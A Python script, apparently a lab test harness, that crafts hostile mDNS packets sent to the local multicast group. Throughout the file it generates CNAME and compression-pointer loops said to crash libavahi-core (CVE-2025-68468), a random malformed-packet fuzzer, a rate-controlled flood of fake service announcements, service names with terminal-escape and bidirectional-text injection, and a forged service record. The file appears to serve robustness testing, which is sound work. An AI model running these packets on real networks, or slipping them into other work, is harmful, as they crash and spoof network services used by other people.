"""Packets that no honest host sends. Runs inside a lab host only; everything goes to the group on its one card."""
import os
import random
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
TYPE = "_r-cli._tcp.local"


def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.rstrip(".").split(".")) + b"\0"


def record(owner, kind, data, ttl=120, klass=0x8001):
    return name(owner) + struct.pack("!HHIH", kind, klass, ttl, len(data)) + data


def response(records):
    return struct.pack("!6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def open_socket(address, port=5353, bind_address="0.0.0.0"):
    result = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    result.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    result.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    result.bind((bind_address, port))
    result.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    result.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    return result


def cname(address, host, instance):
    """CNAME chains and loops on the host, the instance and the type; some kill libavahi-core (CVE-2025-68468)."""
    out = open_socket(address)
    cases = [
        [record(host, 5, name("x1.local"))],
        [record(host, 5, name(host))],
        [record(host, 5, name("i1.local"), 3), record(host, 5, name("i2.local"), 3, 1),
         record("i1.local", 5, name("i3.local"), 3), record("i2.local", 5, name("i3.local"), 3, 1),
         record("i3.local", 1, b"\1\1\1\1", 3)],
        [record(TYPE, 5, name(TYPE))],
        [record(TYPE, 5, name("x2.local"))],
        [record(host, 5, name("q.local")), record("q.local", 5, name(host))],
        [record(instance + "." + TYPE, 5, name("y." + TYPE))],
    ]
    for _ in range(2):
        for case in cases:
            out.sendto(response(case), GROUP)
            time.sleep(0.3)
    # Names that point to themselves, forwards and in circles.
    header = struct.pack("!6H", 0, 0x8400, 0, 1, 0, 0)
    for loop in (b"\xc0\x0c", b"\xc0\x10", b"\x01a\xc0\x0c", b"\x01a\xc0\x10\x01b\xc0\x0c"):
        out.sendto(header + loop + struct.pack("!HHIH", 12, 1, 120, 2) + b"\xc0\x0c", GROUP)


def random_name():
    choice = random.random()
    if choice < 0.3:
        return name(random.choice([TYPE, "rd-1.local", "alice." + TYPE, "_services._dns-sd._udp.local"]))
    if choice < 0.5:
        return bytes([0xC0 | random.randrange(64), random.randrange(256)])
    if choice < 0.8:
        lengths = [random.randrange(1, 64) for _ in range(random.randrange(1, 6))]
        return b"".join(bytes([n]) + os.urandom(n) for n in lengths) + b"\0"
    return os.urandom(random.randrange(0, 30))


def random_record():
    kind = random.choice([1, 2, 5, 12, 16, 28, 33, 41, 47, 255, random.randrange(65536)])
    data = {
        1: lambda: os.urandom(random.choice([4, 4, 4, 0, 3, 5])), 28: lambda: os.urandom(random.choice([16, 16, 0])),
        12: random_name, 5: random_name, 2: random_name, 33: lambda: os.urandom(6) + random_name(),
        16: lambda: os.urandom(random.randrange(0, 200)), 47: lambda: random_name() + os.urandom(random.randrange(40)),
    }.get(kind, lambda: os.urandom(random.randrange(60)))()
    length = len(data) if random.random() < 0.9 else random.randrange(65536)
    ttl = random.choice([0, 1, 10, 120, 4500, 0xFFFFFFFF, random.randrange(2**32)])
    klass = random.choice([1, 0x8001, 255, random.randrange(65536)])
    return random_name() + struct.pack("!HHIH", kind, klass, ttl, length) + data


def random_packet():
    choice = random.random()
    if choice < 0.1:
        return os.urandom(random.randrange(1400))
    counts = [random.choice([0, 0, 1, 1, 2, 5]) for _ in range(4)]
    flags = random.choice([0, 0x8400, 0x8400, 0x8400, 0x200, random.randrange(65536)])
    told = counts if random.random() < 0.9 else [random.randrange(65536) for _ in range(4)]
    packet = bytearray(struct.pack("!6H", 0, flags, *told))
    for _ in range(counts[0]):
        packet += random_name() + struct.pack("!HH", random.choice([1, 12, 16, 28, 33, 255]), random.choice([1, 0x8001]))
    for _ in range(sum(counts[1:])):
        packet += random_record()
    if choice < 0.25:
        for _ in range(random.randrange(1, 6)):
            packet[random.randrange(len(packet))] = random.randrange(256)
    return bytes(packet[:8900])


def fuzz(address, count, seed):
    random.seed(int(seed))
    outs = [open_socket(address), open_socket(address, 45678, address)]
    for _ in range(int(count)):
        try:
            outs[0 if random.random() < 0.85 else 1].sendto(random_packet(), GROUP)
        except OSError:
            pass


def flood(address, per_second, seconds):
    """Valid announcements of ever new instances, as fast as told; prints how many went out in which time."""
    out = open_socket(address)
    per_second, seconds = int(per_second), float(seconds)
    packets = []
    for index in range(5000):
        host = f"spam-{index}.local"
        instance = f"spam {index}.{TYPE}"
        packets.append(response([
            record(TYPE, 12, name(instance), 4500, 1), record(instance, 33, struct.pack("!3H", 0, 0, 80) + name(host)),
            record(instance, 16, b"\x03a=b"), record(host, 1, b"\x0a\x63\x00\x63")]))
    start = time.monotonic()
    sent = 0
    while time.monotonic() - start < seconds:
        due = int((time.monotonic() - start) * per_second)
        while sent < due:
            out.sendto(packets[sent % len(packets)], GROUP)
            sent += 1
        time.sleep(0.002)
    print(f"SENT {sent} {time.monotonic() - start:.2f}", flush=True)


def strange(address):
    """A service with a name that would drive a terminal, one that is no UTF-8, and texts of odd sizes."""
    out = open_socket(address)
    labels = [b"\x1b[2J\x1b]0;owned\x07", b"bad\xff\xfebytes", "\u202eevil".encode(), b"big-txt"]
    for index, label in enumerate(labels):
        instance = bytes([len(label)]) + label + name(TYPE)
        host = f"strange-{index}.local"
        text = b"" if index < 3 else b"".join(b"\x40" + f"k{i:02}=".encode() + b"x" * 60 for i in range(20))
        records = [
            name(TYPE) + struct.pack("!HHIH", 12, 1, 4500, len(instance)) + instance,
            instance + struct.pack("!HHIH", 33, 0x8001, 120, 6 + len(name(host))) + struct.pack("!3H", 0, 0, 80) + name(host),
            instance + struct.pack("!HHIH", 16, 0x8001, 4500, len(text)) + text,
            record(host, 1, socket.inet_aton(address)),
        ]
        for single in records:
            out.sendto(response([single]), GROUP)
            time.sleep(0.02)


def forge(address, label):
    """One complete service."""
    out = open_socket(address, bind_address=address)
    instance = f"{label}.{TYPE}"
    out.sendto(response([
        record(TYPE, 12, name(instance), 4500, 1), record(instance, 33, struct.pack("!3H", 0, 0, 666) + name("evil.local")),
        record(instance, 16, b"\x03a=b"), record("evil.local", 1, b"\x0a\x63\x00\x63")]), GROUP)


if __name__ == "__main__":
    {"cname": cname, "fuzz": fuzz, "flood": flood, "strange": strange, "forge": forge}[sys.argv[1]](*sys.argv[2:])
